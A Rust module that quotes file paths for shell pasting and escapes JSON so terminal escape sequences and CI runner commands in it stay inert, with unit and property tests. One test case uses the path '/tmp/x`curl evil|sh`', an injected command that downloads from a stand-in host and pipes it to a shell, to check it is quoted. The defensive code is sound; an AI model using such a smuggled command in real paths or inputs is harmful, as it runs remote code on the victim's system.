//! Text for a terminal, for a CI system's log and for a shell: what comes from a host, an engine, a run directory or another
//! user does nothing but be read. The main functions are [`harmless`], [`pasted`] and [`quoted`].

use std::{ffi::OsStr, fmt::Write as _, path::Path};

use record::escaping::is_unseen;
pub use record::escaping::{harmless, harmless_line, without_commands};

/// A path as a word of a command that a person pastes into a shell: what is not plain is quoted.
#[must_use]
pub fn pasted(path: &Path) -> String {
    let text = path.to_string_lossy();
    let plain = |it: char| it.is_ascii_alphanumeric() || "/._-+,:@%=".contains(it);
    match !text.is_empty() && text.chars().all(plain) {
        true => text.into_owned(),
        false => quoted([path]),
    }
}

/// JSON that a terminal only shows and a CI system only records, and that says the same. All that is not plain stands in strings,
/// where JSON has an escape for each character.
#[must_use]
pub fn harmless_json(json: &str) -> String {
    let mut harmless = String::with_capacity(json.len());
    for character in json.chars() {
        match character {
            '\n' => harmless.push(character),
            _ if is_unseen(character) => {
                for unit in character.encode_utf16(&mut [0; 2]) {
                    let _ = write!(harmless, "\\u{unit:04x}");
                }
            }
            _ => harmless.push(character),
        }
    }
    // `##` stands in strings alone, and the commands of runners begin with it. No line begins within a string.
    harmless.replace("##", "#\\u0023")
}

/// Words as a POSIX shell reads them again. What is not UTF-8 is replaced: people read it, or the same library's rule
/// holds.
#[must_use]
pub fn quoted(words: impl IntoIterator<Item = impl AsRef<OsStr>>) -> String {
    let mut line = String::new();
    for word in words {
        push_quoted(&mut line, &word.as_ref().to_string_lossy());
    }
    line.trim_start().to_owned()
}

/// Adds a space and the word. Within single quotes nothing means anything but the quote that ends them.
pub(crate) fn push_quoted(line: &mut String, word: &str) {
    line.push_str(" '");
    line.push_str(&word.replace('\'', r"'\''"));
    line.push('\'');
}

#[cfg(test)]
mod tests {
    use serde_json::{Value, json};

    use super::*;

    #[rstest::rstest]
    #[case(
        "/home/you/matrix/runs/20261123-035357-2d7d",
        "/home/you/matrix/runs/20261123-035357-2d7d"
    )]
    #[case("/tmp/x`curl evil|sh`", "'/tmp/x`curl evil|sh`'")]
    #[case("it's", r"'it'\''s'")]
    fn a_path_in_a_hint_can_be_pasted(#[case] path: &str, #[case] word: &str) {
        assert_eq!(pasted(Path::new(path)), word);
    }

    #[test]
    fn what_json_has_of_a_terminals_and_a_runners_is_escaped() {
        let shown = harmless_json("{\"a\": \"\u{9b}31m ##[error] ###vso[ \u{202e}é\u{feff}\"}");
        let escaped = r##"{"a": "\u009b31m #\u0023[error] #\u0023#vso[ \u202eé\ufeff"}"##;
        assert_eq!(shown, escaped);
    }

    proptest::proptest! {
        #[test]
        fn json_says_the_same_and_nothing_of_it_is_done(text in "(::|#|\\[|\\\\|\"|\\PC|\\p{Cc}|\u{202e}|\n){0,40}") {
            let value = json!({"it": text, "list": [text]});
            let shown = harmless_json(&serde_json::to_string_pretty(&value).unwrap());
            proptest::prop_assert!(!shown.chars().any(|it| is_unseen(it) && it != '\n'), "{shown:?}");
            proptest::prop_assert!(!shown.contains("##"), "{shown:?}");
            proptest::prop_assert!(!shown.lines().any(|line| line.trim_start().starts_with("::")), "{shown:?}");
            let read: Value = serde_json::from_str(&shown).unwrap();
            proptest::prop_assert_eq!(read, value);
        }
    }
}
